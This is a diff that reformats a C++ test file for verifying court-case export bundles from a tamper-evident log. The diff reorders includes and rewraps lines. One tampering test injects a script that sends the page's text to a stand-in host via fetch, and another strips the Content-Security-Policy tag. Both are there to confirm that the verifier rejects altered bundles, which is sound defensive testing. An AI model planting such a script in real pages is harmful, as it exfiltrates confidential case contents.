@@ -1,26 +1,25 @@
 // A court export (docs/court-export.md): recorded before it is written, it
 // verifies offline from the log's key alone, and any part changed, dropped or
 // reordered makes the verifier name that part.
-#include "ledger/export/case_export.h"
-
-#include <catch2/catch.hpp>
-
 #include <cstring>
 #include <filesystem>
-#include <functional>
 #include <fstream>
+#include <functional>
 #include <regex>
 #include <set>
 
-#include "ledger/core/checkpoint.h"
-#include "ledger/log/data_dir.h"
-#include "ledger/client/case_acts.h"
+#include <catch2/catch.hpp>
+
 #include "ledger/bundle/bundle.h"
 #include "ledger/bundle/export_verifier.h"
+#include "ledger/client/case_acts.h"
+#include "ledger/client/statement_builder.h"
+#include "ledger/core/checkpoint.h"
 #include "ledger/core/fb_string.h"
 #include "ledger/core/record.h"
 #include "ledger/core/sha256.h"
-#include "ledger/client/statement_builder.h"
+#include "ledger/export/case_export.h"
+#include "ledger/log/data_dir.h"
 #include "projectors/all.h"
 #include "projectors/case_file_view.h"
 #include "projectors/runner.h"
@@ -58,9 +57,9 @@ struct ExportFixture {
     return r[0]->index;
   }
   Result<court_export::ExportDone> Export(const std::string& case_id, std::vector<std::string> reveal = {},
-                                        std::string files_dir = "", std::vector<std::string> trusted = {}) {
-    const court_export::ExportRequest request{case_id, &supervisor, std::nullopt, std::move(reveal),
-                                            std::move(files_dir), std::move(trusted), NowMs()};
+                                          std::string files_dir = "", std::vector<std::string> trusted = {}) {
+    const court_export::ExportRequest request{
+        case_id, &supervisor, std::nullopt, std::move(reveal), std::move(files_dir), std::move(trusted), NowMs()};
     return court_export::ExportCase(*log, dir(), request);
   }
   ExportReport Verify(const Bytes& bundle, std::optional<std::string> trusted = std::nullopt,
@@ -80,21 +79,25 @@ struct ExportFixture {
   // (ledger/client/case_acts.cc); the agency's document store holds them.
   std::string WriteDocumentFiles(const std::string& case_id, const TempDir& into) const {
     size_t written = 0;
-    REQUIRE(log->reader().ForEachCaseRecord(case_id, [&](uint64_t, const Bytes& bytes) {
-      auto rv = ParseRecord(bytes);
-      auto parsed = ParseSignedStatement(Bytes(rv->signed_statement.begin(), rv->signed_statement.end()));
-      const fb::Statement& st = *parsed->statement;
-      if (st.attachments() == nullptr) return Status::Ok();
-      for (const fb::Attachment* a : *st.attachments()) {
-        const std::string content = Str(a->doc_type()) + "\n" + Str(a->doc_no()) + "\n" + case_id + "\n" +
-                                    std::to_string(st.occurred_at_ms());
-        const Hash h = Sha256(AsBytes(content));
-        if (!std::equal(h.begin(), h.end(), a->content_hash()->begin())) continue;
-        std::ofstream(into.path() + "/" + ToHex(h), std::ios::binary) << content;
-        ++written;
-      }
-      return Status::Ok();
-    }).ok());
+    REQUIRE(log->reader()
+                .ForEachCaseRecord(case_id,
+                                   [&](uint64_t, const Bytes& bytes) {
+                                     auto rv = ParseRecord(bytes);
+                                     auto parsed = ParseSignedStatement(
+                                         Bytes(rv->signed_statement.begin(), rv->signed_statement.end()));
+                                     const fb::Statement& st = *parsed->statement;
+                                     if (st.attachments() == nullptr) return Status::Ok();
+                                     for (const fb::Attachment* a : *st.attachments()) {
+                                       const std::string content = Str(a->doc_type()) + "\n" + Str(a->doc_no()) + "\n" +
+                                                                   case_id + "\n" + std::to_string(st.occurred_at_ms());
+                                       const Hash h = Sha256(AsBytes(content));
+                                       if (!std::equal(h.begin(), h.end(), a->content_hash()->begin())) continue;
+                                       std::ofstream(into.path() + "/" + ToHex(h), std::ios::binary) << content;
+                                       ++written;
+                                     }
+                                     return Status::Ok();
+                                   })
+                .ok());
     REQUIRE(written > 0);
     return into.path();
   }
@@ -102,10 +105,13 @@ struct ExportFixture {
 
 size_t CaseRecords(const Log& log, const std::string& case_id) {
   size_t n = 0;
-  REQUIRE(log.reader().ForEachCaseRecord(case_id, [&](uint64_t, const Bytes&) {
-    ++n;
-    return Status::Ok();
-  }).ok());
+  REQUIRE(log.reader()
+              .ForEachCaseRecord(case_id,
+                                 [&](uint64_t, const Bytes&) {
+                                   ++n;
+                                   return Status::Ok();
+                                 })
+              .ok());
   return n;
 }
 
@@ -202,12 +208,17 @@ TEST_CASE("a case whose id, names and 文号 are Chinese exports and verifies, i
   CHECK_THAT(FormatExportReport(report), Catch::Contains("决定书 " + CaseFixture::DecisionNo(case_id)));
   // The records in the bundle are the log's, byte for byte.
   size_t i = 0;
-  REQUIRE(f.t().log().reader().ForEachCaseRecord(case_id, [&](uint64_t index, const Bytes& bytes) {
-    CHECK(parts.records[i].index == index);
-    CHECK(parts.records[i].bytes == bytes);
-    ++i;
-    return Status::Ok();
-  }).ok());
+  REQUIRE(f.t()
+              .log()
+              .reader()
+              .ForEachCaseRecord(case_id,
+                                 [&](uint64_t index, const Bytes& bytes) {
+                                   CHECK(parts.records[i].index == index);
+                                   CHECK(parts.records[i].bytes == bytes);
+                                   ++i;
+                                   return Status::Ok();
+                                 })
+              .ok());
   CHECK(i == parts.records.size());
 }
 
@@ -247,10 +258,14 @@ TEST_CASE("a bundle built twice at the same checkpoint is the same bytes, also a
   REQUIRE(exported.ok());
   auto rebuild = [&] {
     const uint64_t size = ParseCheckpointNoteUnverified(exported->checkpoint)->size;
-    const court_export::CaseExportInput in{case_id, exported->checkpoint,
-                                         note::EncodeVerifier(f.vkey.name, f.vkey.public_key),
-                                         {"party.name"}, &f.log->vault(), files.path(), {},
-                                         [&](std::string_view c) { return f.log->CaseHeadProofAt(c, size); }};
+    const court_export::CaseExportInput in{case_id,
+                                           exported->checkpoint,
+                                           note::EncodeVerifier(f.vkey.name, f.vkey.public_key),
+                                           {"party.name"},
+                                           &f.log->vault(),
+                                           files.path(),
+                                           {},
+                                           [&](std::string_view c) { return f.log->CaseHeadProofAt(c, size); }};
     auto built = court_export::BuildCaseExport(f.log->store(), f.log->reader(), in);
     REQUIRE(built.ok());
     return built->bundle;
@@ -288,7 +303,8 @@ TEST_CASE("the exported case file opens in a browser and lists the documents of 
   // The 卷内目录 as the browser shows it, row by row …
   std::vector<std::tuple<std::string, std::string, std::string, std::string>> shown;  // volume, 文号, 题名, record
   const std::regex table(R"re(<table class="toc" data-volume="([^"]+)">([\s\S]*?)</table>)re");
-  const std::regex row(R"re(<tr class="doc" data-record="(\d+)" data-hash="[0-9a-f]*"><td>\d+</td><td>([^<]*)</td><td>([^<]*)</td>)re");
+  const std::regex row(
+      R"re(<tr class="doc" data-record="(\d+)" data-hash="[0-9a-f]*"><td>\d+</td><td>([^<]*)</td><td>([^<]*)</td>)re");
   for (std::sregex_iterator t(dom.begin(), dom.end(), table), end; t != end; ++t) {
     const std::string rows = (*t)[2];
     for (std::sregex_iterator r(rows.begin(), rows.end(), row); r != end; ++r) {
@@ -405,12 +421,15 @@ TEST_CASE("a bundle with any part changed fails, naming the part") {
     REQUIRE(party_at != std::string::npos);
     std::vector<std::pair<std::string, std::string>> forged = {
         {"another party", std::string(page).insert(party_at + std::strlen("<th>当事人</th><td>"), "李四")},
-        {"another 责任者", std::regex_replace(page, std::regex(responsible), "赵六", std::regex_constants::format_first_only)},
-        {"a script", std::string(page).insert(page.find("</body>"), "<script>fetch('https://x.example/'+document.body.innerText)</script>")},
+        {"another 责任者",
+         std::regex_replace(page, std::regex(responsible), "赵六", std::regex_constants::format_first_only)},
+        {"a script", std::string(page).insert(page.find("</body>"),
+                                              "<script>fetch('https://x.example/'+document.body.innerText)</script>")},
         {"an outside image", std::string(page).insert(page.find("</body>"), "<img src=\"https://x.example/p.png\">")},
         {"a whole forged page", "<!DOCTYPE html><html><body><h1>行政执法案卷</h1>" + t.case_id + "</body></html>"},
         {"a byte cut", page.substr(0, page.size() - 1)},
-        {"the policy dropped", std::regex_replace(page, std::regex("<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n"), "")},
+        {"the policy dropped",
+         std::regex_replace(page, std::regex("<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n"), "")},
     };
     for (const auto& [what, html] : forged) {
       INFO(what);
@@ -479,7 +498,8 @@ bundle::Parts WithoutRecord(const Tampering& t, size_t drop) {
     for (const auto& r : *list) indexes.push_back(r.index);
   }
   std::sort(indexes.begin(), indexes.end());
-  p.inclusion_proof = *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
+  p.inclusion_proof =
+      *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
   return p;
 }
 
@@ -492,7 +512,8 @@ TEST_CASE("a bundle built by hand without the case's last or a middle record fai
       for (const auto& r : *list) indexes.push_back(r.index);
     }
     std::sort(indexes.begin(), indexes.end());
-    p.inclusion_proof = *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
+    p.inclusion_proof =
+        *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
     CHECK(t.f.Verify(bundle::Pack(p)).status.ok());
   }
   SECTION("without the last record (the export event)") {
